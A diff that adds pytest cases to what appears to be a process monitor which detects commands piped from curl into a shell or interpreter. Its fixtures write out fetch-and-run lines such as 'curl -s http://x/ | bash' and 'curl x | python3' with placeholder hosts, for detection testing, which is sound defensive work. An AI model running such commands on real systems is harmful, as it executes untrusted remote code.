@@ -87,6 +87,38 @@ def test_wrappers_that_exec() -> None:
 
 
 @pytest.mark.parametrize(
+    ("execs", "chain", "text"),
+    [
+        # the program, the pipes that its standard input and output are; the last one is asked
+        ([("curl -s http://x/", 0, 7), ("bash", 7, 0)], ("bash",), "curl -s http://x/ | bash"),
+        ([("bash", 7, 0), ("curl -s http://x/", 0, 7)], ("bash",), "curl -s http://x/ | bash"),
+        ([("curl x", 0, 7), ("sed s/a/b/", 7, 8), ("sh -s a", 8, 0)], ("sh",), "curl x | sed s/a/b/ | sh"),
+        ([("sh", 8, 0), ("curl x", 0, 7), ("tee y", 7, 8)], ("sh",), "curl x | tee y | sh"),
+        ([("env curl x", 0, 7), ("curl x", 0, 7), ("python3 -", 7, 0)], ("python3",), "curl x | python3"),
+        ([("curl x", 0, 7), ("curl y", 0, 7 + 256), ("sh", 7, 0)], (), ""),  # the younger one drove it out
+        ([("curl x", 0, 7), ("sh y", 7, 0)], ("sh",), ""),  # data for the script
+        ([("curl x", 0, 7), ("wc -l", 7, 0)], (), ""),
+        ([("curl x", 0, 7), ("sh", 0, 0)], (), ""),
+    ],
+)
+def test_pipes_that_no_text_announces(execs: list[tuple[str, int, int]], chain: tuple[str, ...], text: str) -> None:
+    seen = Execs()
+    for pid, (command, in_pipe, out_pipe) in enumerate(execs, 1):
+        proxy = seen.run(shlex.split(command), pid=pid, in_pipe=in_pipe, out_pipe=out_pipe)
+    assert (chain_of(proxy), proxy.text if proxy else "") == (chain, text)
+
+
+def test_a_long_line_through_pipes_is_cut() -> None:
+    seen = Execs()
+    seen.run(["curl", "x" * 1000], pid=1, out_pipe=1)
+    for pid in range(2, 200):
+        seen.run(["tee", "y" * pid], pid=pid, in_pipe=pid - 1, out_pipe=pid)
+    proxy = seen.run(["sh"], pid=200, in_pipe=199)
+    assert proxy is not None
+    assert (proxy.text[:8], proxy.text[-5:], len(proxy.text)) == ("curl xxx", " | sh", 205)
+
+
+@pytest.mark.parametrize(
     ("parent", "child", "chain"),
     [
         ("node /usr/bin/npm run x", "sh -c 'id;sh'", ("node", "sh")),
